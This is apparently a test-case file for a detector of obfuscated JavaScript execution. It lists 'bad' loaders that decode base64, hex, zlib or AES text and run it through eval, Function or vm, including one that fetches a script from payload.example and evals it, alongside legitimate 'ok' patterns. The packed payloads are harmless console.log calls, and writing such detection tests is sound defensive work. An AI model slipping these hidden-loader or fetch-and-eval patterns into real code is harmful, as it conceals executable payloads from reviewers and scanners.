import { defineCases } from '../../src/rule.ts';

// The packed texts say `console.log(1)`.
export default defineCases({
  bad: [
    { name: 'eval of base64', code: "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())" },
    {
      name: 'a function made of a decoded text',
      code: "const t = atob('Y29uc29sZS5sb2coMSk=');\nconst f = new Function(t);\nf()",
    },
    {
      name: 'an inflated script',
      code: "const z = require('zlib'), vm = require('node:vm');\nconst s = z.inflateSync(Buffer.from('eJxLzs8rzs9J1cvJT9cw1AQAHpgEgw==', 'base64')).toString();\nvm.runInThisContext(s)",
    },
    {
      name: 'indirect eval of character codes',
      code: 'const g = globalThis;\n(0, g["ev" + "al"])(String.fromCharCode(99, 111, 110, 115, 111, 108, 101))',
    },
    {
      name: 'a download that is run',
      code: "fetch('https://payload.example/x.js').then((r) => r.text()).then((t) => eval(t))",
    },
    {
      name: 'a module compiled from hex',
      code: "const Module = require('module');\nconst m = new Module('x');\nm._compile(Buffer.from('636f6e736f6c652e6c6f67283129', 'hex').toString(), 'x.js')",
    },
    {
      name: 'an encrypted text',
      code: "const c = require('crypto');\nconst d = c.createDecipheriv('aes-256-cbc', 'k'.repeat(32), 'i'.repeat(16));\nlet out = d.update('00ff00ff00ff00ff', 'hex', 'utf8');\nout += d.final('utf8');\nFunction(out)()",
    },
    {
      name: 'a text that lies in another module',
      files: {
        'index.js': "const { icon } = require('./icon.js');\neval(atob(icon))",
        'icon.js': "exports.icon = 'Y29uc29sZS5sb2coImEgZmV3IHdvcmRzIG9mIGNvZGUiKQ=='",
      },
      manifest: { main: 'index.js' },
    },
    {
      name: 'a text handed to a module that unpacks and runs it',
      files: {
        'index.js': "const run = require('./run.js');\nrun('Y29uc29sZS5sb2coMSk=')",
        'run.js': 'module.exports = (text) => eval(atob(text))',
      },
      manifest: { main: 'index.js' },
    },
    {
      name: 'a packed file',
      code: "const fs = require('fs');\neval(Buffer.from(fs.readFileSync(__dirname + '/x.dat', 'utf8'), 'base64').toString())",
    },
  ],
  ok: [
    {
      name: 'a worker that runs the `data:` URL it is given',
      code: "const vm = require('vm');\nconst { workerData, isMainThread } = require('worker_threads');\nfunction run(url) {\n  const [, type, data] = /^data:([^,]*),(.*)$/.exec(decodeURIComponent(url)) || [];\n  return vm.runInThisContext(type.endsWith('base64') ? Buffer.from(data, 'base64').toString() : data);\n}\nif (!isMainThread) run(workerData.url);",
    },
    {
      name: 'a compiler whose lexer knows escapes',
      code: 'const lex = (code) => code.replace(/x([0-9a-f]{4})/g, (_, hex) => String.fromCharCode(parseInt(hex, 16)));\nexports.run = (code) => Function(lex(code))()',
    },
    { name: 'the old way to the global object', code: "module.exports = Function('return this')()" },
    {
      name: 'a template compiled to a function',
      code: "exports.compile = (t) => new Function('data', 'return `' + t + '`')",
    },
    { name: 'data in base64 that stays data', code: "exports.icon = Buffer.from('iVBORw0KGgo=', 'base64')" },
    {
      name: 'base64 in one place, a lazy import in another',
      code: "const logo = atob('aGVsbG8=');\nexports.load = new Function('s', 'return import(s)');\nexports.logo = logo",
    },
    {
      name: 'WebAssembly that a library carries',
      code: "const bytes = Buffer.from('AGFzbQEAAAA=', 'base64');\nmodule.exports = WebAssembly.compile(bytes)",
    },
    {
      name: 'a downloaded document that is parsed',
      code: "exports.load = () => fetch('https://api.example/x.json').then((r) => r.json())",
    },
  ],
});
